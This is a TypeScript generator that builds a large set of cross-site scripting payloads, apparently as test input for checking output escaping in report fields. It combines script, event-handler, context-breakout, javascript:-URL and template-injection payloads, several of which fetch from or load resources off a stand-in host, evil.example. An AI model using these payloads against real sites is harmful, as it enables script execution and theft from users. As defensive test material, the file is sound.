/** Families of script injection, each built from pieces: enough of them to fill every field of a report many times. */
export function scriptPayloads(): string[] {
  const run = [
    'alert(1)',
    'confirm`1`',
    "fetch('https://evil.example/x')",
    'document.title=1',
    'parent.postMessage(1)',
  ];
  const events = [
    'onerror',
    'onload',
    'onclick',
    'onmouseover',
    'onfocus',
    'ontoggle',
    'onpointerenter',
    'onanimationstart',
  ];
  const tags = [
    'img src=x',
    'svg',
    'body',
    'video src=x',
    'details open',
    'input autofocus',
    'marquee',
    'iframe',
    'math',
    'object data=x',
  ];
  const out: string[] = [];
  for (const tag of tags) for (const event of events) for (const code of run) out.push(`<${tag} ${event}=${code}>`);
  for (const breakout of [
    '"',
    "'",
    '`',
    '">',
    "'>",
    '--></',
    ']]>',
    '</title>',
    '</textarea>',
    '</style>',
    '</script>',
    '</template>',
    '</noscript>',
    '</svg>',
    '</bdi>',
    '</a>',
    '*/',
    '\\',
    '\\u003c/script>',
    '</ScRiPt >',
  ]) {
    for (const code of run) {
      out.push(`${breakout}<script>${code}</script>`);
      out.push(`${breakout} ${events[out.length % events.length]}=${code} x=`);
      out.push(`${breakout}<svg><style><img src=x onerror=${code}></style></svg>`);
      out.push(`${breakout}<math><mtext><table><mglyph><style><img src=x onerror=${code}>`);
    }
  }
  for (const scheme of [
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    ' javascript:',
    'data:text/html,',
    'vbscript:',
    'javascript&colon;',
    '&#106;avascript:',
    '\u0001javascript:',
    'feed:javascript:',
    'blob:',
    'file:///',
    'view-source:',
  ]) {
    for (const code of run) {
      out.push(`${scheme}${code}`);
      out.push(`<a href="${scheme}${code}">去</a>`);
      out.push(`<form action="${scheme}${code}"><button>买</button></form>`);
      out.push(`<meta http-equiv=refresh content="0;url=${scheme}${code}">`);
    }
  }
  for (const code of run) {
    out.push(`<img src="https://evil.example/p?${code}">`, `<link rel=stylesheet href="https://evil.example/${code}">`);
    out.push(`<base href="https://evil.example/${code}/">`, `<style>@import "https://evil.example/${code}";</style>`);
    out.push(`<object data="data:text/html,<script>${code}</script>">`, `<embed src="https://evil.example/${code}">`);
    out.push(
      `<iframe srcdoc="<script>${code}</script>">`,
      `{"@type":"Product","name":"</script><script>${code}</script>"}`,
    );
    out.push(`\${${code}}`, `{{constructor.constructor('${code}')()}}`, `<!--${code}--!><script>${code}</script>`);
    out.push(
      `<x style="background:url(https://evil.example/${code})">`,
      `&lt;script&gt;${code}&lt;/script&gt;`,
      `%3Cscript%3E${code}%3C/script%3E`,
    );
    out.push(
      `茶<img src=x onerror=${code}>叶 & “引号” '单引号'`,
      `\u2028<script>${code}</script>\u2029`,
      `]}';${code};//`,
      `"}],"x":"${code}`,
    );
  }
  return [...new Set(out)];
}
